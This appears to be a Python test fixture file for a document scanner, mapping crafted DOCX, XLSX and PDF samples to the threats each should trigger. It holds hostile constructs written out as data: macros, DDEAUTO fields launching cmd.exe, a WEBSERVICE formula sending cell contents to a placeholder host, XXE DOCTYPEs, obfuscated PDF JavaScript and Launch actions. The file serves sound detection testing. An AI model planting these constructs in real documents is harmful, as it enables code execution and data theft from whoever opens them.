"""Files that hold what acts, fetches or hides."""

from tests.documents import files
from tests.documents.hostile import papers
from tests.documents.hostile.archives import document
from tests.documents.hostile.making import (
    ACTIVE,
    BOOK,
    BROKEN,
    CARRIES,
    COMPOUND,
    CONNECTIONS,
    DOCTYPE,
    FILES,
    HTML,
    MACRO_BOOK,
    MACROS,
    OUTSIDE,
    RELS,
    UNSAFE,
    XXE,
    A,
    Case,
    field,
    part,
    related,
    sheet,
    typed,
)

CONTENTS: dict[str, Case] = {
    "macros, renamed from docm": (files.word_with_macros, "docx", MACROS),
    "macros, without their type": (part("word/vbaProject.bin", b"\xd0\xcf"), "docx", MACROS),
    "macros in an object under another name": (part("word/a.bin", "_VBA_PROJECT".encode("utf-16-le")), "docx", MACROS),
    "macros in a book inside": (part("word/embeddings/b.xlsx", b"PK...xl/vbaProject.bin"), "docx", MACROS),
    "macros, renamed from xlsm": (
        lambda: files.with_parts(files.excel(), {}, {BOOK: MACRO_BOOK}),
        "xlsx", MACROS,
    ),
    "a macro sheet": (
        lambda: files.with_parts(files.excel(), {"xl/macrosheets/sheet1.xml": b"<a/>"}), "xlsx", MACROS
    ),
    "an ActiveX control": (part("word/activeX/activeX1.bin", b"x"), "docx", MACROS),
    "an outside template": (related("attachedTemplate", "http://10.0.0.1/t.dotm"), "docx", OUTSIDE),
    "an outside picture": (related("image", "file:///etc/passwd"), "docx", OUTSIDE),
    "an outside object": (related("oleObject", "\\\\10.0.0.1\\share\\a"), "docx", OUTSIDE),
    "an outside frame": (related("frame", "http://10.0.0.1/"), "docx", OUTSIDE),
    "an outside book": (related("externalLinkPath", "http://10.0.0.1/a.xlsx"), "docx", OUTSIDE),
    "an outside picture that is not declared": (
        lambda: files.with_parts(
            files.word(),
            {"word/_rels/x.xml.rels": b'<Relationships><Relationship Id="r" Type="a/image" Target="http://10.0.0.1/"/></Relationships>'},
        ),
        "docx", OUTSIDE,
    ),
    "a picture by a link that is to be clicked": (
        part("word/a.xml", f"<a:blip {A} {RELS} r:link='rId1'/>"), "docx", OUTSIDE
    ),
    "a picture by address": (part("word/a.xml", "<v:imagedata xmlns:v='v' src='http://10.0.0.1/'/>"), "docx", OUTSIDE),
    "a chunk of a page": (related("aFChunk", "page.html"), "docx", CARRIES),
    "a page among the parts": (part("word/page.html", HTML), "docx", CARRIES),
    "a program among the pictures": (part("word/media/image1.png", b"MZ" + bytes(100)), "docx", CARRIES),
    "a packaged file": (part("word/embeddings/o.bin", COMPOUND + "\x01Ole10Native".encode("utf-16-le")), "docx", CARRIES),
    "a packaged file across the edge of a chunk": (
        part("word/embeddings/o.bin", bytes(256 * 1024 - 7) + "\x01Ole10Native".encode("utf-16-le")), "docx", CARRIES
    ),
    "a field that starts a program": (field("DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"), "docx", OUTSIDE),
    "the same in pieces": (field("DDE", "AUTO calc"), "docx", OUTSIDE),
    "the same in a simple field": (
        lambda: document('<w:p><w:fldSimple w:instr="dde calc"/></w:p>'), "docx", OUTSIDE
    ),
    "a field whose name another field makes": (
        lambda: document(
            '<w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText><w:fldChar w:fldCharType="begin"/>'
            "<w:instrText>QUOTE 69</w:instrText>"
        ),
        "docx", OUTSIDE,
    ),
    "a field that fetches a picture": (field('INCLUDEPICTURE "http://10.0.0.1/a.png" \\d'), "docx", OUTSIDE),
    "a letter for everybody in a database": (
        lambda: document("<w:mailMerge><w:query/></w:mailMerge>"), "docx", OUTSIDE
    ),
    "a cell that asks a server": (sheet('<f>_xlfn.WEBSERVICE("http://10.0.0.1/"&amp;A1)</f>'), "xlsx", OUTSIDE),
    "a cell that shows a picture of a server": (sheet('<f>_xlfn.IMAGE("http://10.0.0.1/")</f>'), "xlsx", OUTSIDE),
    "a cell that starts a program": (sheet('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), "xlsx", OUTSIDE),
    "a book with queries": (
        lambda: files.with_parts(
            files.excel(), {"xl/connections.xml": b"<a/>"},
            {"</Types>": CONNECTIONS},
        ),
        "xlsx", OUTSIDE,
    ),
    "a DOCTYPE": (part("word/a.xml", DOCTYPE), "docx", UNSAFE),
    "a DOCTYPE in UTF-16": (part("word/a.xml", DOCTYPE.encode("utf-16")), "docx", UNSAFE),
    "a DOCTYPE in UTF-16 without a mark": (
        part("word/a.xml", ("<?xml version='1.0' encoding='utf-16be'?>" + DOCTYPE).encode("utf-16-be")), "docx",
        UNSAFE | BROKEN,
    ),
    "a DOCTYPE that reads a file": (part("word/a.xml", XXE), "docx", UNSAFE),
    "a DOCTYPE in the types": (lambda: files.zipped({"[Content_Types].xml": XXE.encode()}), "docx", UNSAFE),
    "a DOCTYPE in the relationships": (part("word/_rels/a.xml.rels", XXE), "docx", UNSAFE),
    "a DOCTYPE in a drawing": (part("word/media/a.svg", XXE), "docx", UNSAFE),
    "a DOCTYPE in a part of another name": (typed("word/a.dat", XXE.encode(), "application/xml"), "docx", UNSAFE),
    "a script when it is opened": (files.pdf_with_script, "pdf", ACTIVE),
    "a script whose name is written in numbers": (
        lambda: papers.paper(catalog="/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "pdf", ACTIVE
    ),
    "a script in a packed object": (
        lambda: papers.paper({4: "<< /S /JavaScript /JS (1) >>"}, catalog="/OpenAction 4 0 R"), "pdf", ACTIVE
    ),
    "a script that no table lists": (
        lambda: papers.paper(unlisted=b"9 0 obj << /S /J#61vaScript /JS (1) >> endobj\n"), "pdf", ACTIVE
    ),
    "a program that is started": (files.pdf_that_launches, "pdf", ACTIVE),
    "a form that sends itself": (lambda: papers.paper({4: "<< /S /SubmitForm /F (http://10.0.0.1) >>"}), "pdf", ACTIVE),
    "a form made of XML": (lambda: papers.paper({4: "<< /XFA [] >>"}), "pdf", ACTIVE),
    "a program whose name lies elsewhere, packed": (
        lambda: papers.by_stream(inside={5: "<< /S 7 0 R >>", 7: "/Launch"}), "pdf", ACTIVE
    ),
    "an address visited by an action that lies elsewhere": (
        lambda: papers.paper({4: "<< /S /URI /URI (http://10.0.0.1) >>"}, catalog="/OpenAction 4 0 R"), "pdf", ACTIVE
    ),
    "a page that visits a share": (
        lambda: papers.paper(page="/AA << /O << /F (\\\\\\\\10.0.0.1\\\\a) /D [0 /Fit] /S /GoToE >> >>"), "pdf", ACTIVE
    ),
    "an address visited when it is opened": (
        lambda: papers.paper(catalog="/OpenAction << /S /URI /URI (http://10.0.0.1) >>"), "pdf", ACTIVE
    ),
    "a stream that lies elsewhere": (
        lambda: papers.paper({4: papers.stream(b"", "/F (http://10.0.0.1/a)")}), "pdf", ACTIVE
    ),
    "a file inside": (files.pdf_with_attachment, "pdf", FILES),
    "a file inside, in a note": (lambda: papers.paper({4: "<< /Type /Annot /Subtype /FileAttachment >>"}), "pdf", FILES),
    "a film with a program": (lambda: papers.paper({4: "<< /Subtype /RichMedia >>"}), "pdf", FILES),
}  # fmt: skip
